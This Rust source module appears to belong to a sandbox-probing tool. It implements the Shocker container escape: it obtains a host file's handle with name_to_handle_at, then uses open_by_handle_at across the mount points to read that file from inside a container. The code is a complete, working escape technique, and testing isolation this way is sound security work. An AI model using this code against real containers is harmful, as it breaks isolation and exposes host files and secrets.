//! Shocker: any file of a file system by its handle, whatever is mounted of it. CAP_DAC_READ_SEARCH is all it takes.
#![expect(unsafe_code, reason = "handles of files have no safe wrapper")]

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::process::ExitCode;

use nix::errno::Errno;
use nix::libc;

use crate::{Attempt, Report, Why, text};

/// file_handle of open_by_handle_at(2) with room for the longest one.
#[repr(C)]
struct Handle {
    bytes: libc::c_uint,
    kind: libc::c_int,
    data: [u8; 128],
}

/// `attack handle FILE`: prints its handle, to be carried into the box.
pub(crate) fn of(arguments: &[String]) -> ExitCode {
    let path = CString::new(text(arguments, 0)).unwrap_or_default();
    let mut handle = Handle {
        bytes: 128,
        kind: 0,
        data: [0; 128],
    };
    let mut mount = 0;
    // SAFETY: the path ends in NUL, and the handle says how much room it has.
    let answer = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &raw mut handle,
            &raw mut mount,
            0,
        )
    };
    if Errno::result(answer).is_err() {
        return ExitCode::from(1);
    }
    let data = handle.data[..handle.bytes as usize]
        .iter()
        .map(|byte| format!("{byte:02x}"));
    let line = format!("{}:{}\n", handle.kind, data.collect::<String>());
    match std::io::stdout().write_all(line.as_bytes()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(_) => ExitCode::from(1),
    }
}

/// `attack handles HANDLE`
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    report.line("open", open(text(arguments, 0)));
}

fn open(text: &str) -> Attempt {
    let (kind, hex) = text.split_once(':').ok_or("no handle")?;
    let mut handle = Handle {
        bytes: 0,
        kind: kind.parse().why()?,
        data: [0; 128],
    };
    for at in (0..hex.len()).step_by(2) {
        handle.data[at / 2] = u8::from_str_radix(&hex[at..at + 2], 16).why()?;
        handle.bytes += 1;
    }
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let points = mounts.lines().filter_map(|line| line.split(' ').nth(4));
    let mut last = "no mount".to_owned();
    for point in points.chain(["/"]) {
        let Ok(mount) = File::open(point) else {
            continue;
        };
        // SAFETY: both descriptors and the handle live until the call returns.
        let answer = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                mount.as_raw_fd(),
                &raw const handle,
                libc::O_RDONLY,
            )
        };
        match Errno::result(answer) {
            Ok(fd) => {
                let fd = i32::try_from(fd).why()?;
                // SAFETY: the kernel has just made it, and nobody else has it.
                let mut file = File::from(unsafe { OwnedFd::from_raw_fd(fd) });
                let mut text = String::new();
                file.read_to_string(&mut text).why()?;
                return Ok(text);
            }
            Err(errno) => last = errno.desc().to_owned(),
        }
    }
    Err(last)
}
